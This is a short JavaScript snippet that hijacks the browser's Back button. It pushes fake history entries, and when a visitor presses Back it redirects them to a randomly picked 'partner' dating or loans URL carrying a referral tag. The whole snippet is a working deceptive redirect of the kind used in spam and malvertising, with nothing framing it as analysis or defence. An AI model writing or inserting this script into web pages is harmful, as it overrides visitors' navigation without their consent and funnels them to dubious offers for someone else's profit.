var partners = ["https://dating-one.example/?p=7", "https://loans-two.example/?p=7"];
function away() {
  var pick = partners[Math.floor(Math.random() * partners.length)];
  window.location.replace(pick);
}
history.pushState(null, "", location.href);
history.pushState(null, "", location.href);
window.addEventListener("popstate", function () {
  away();
});
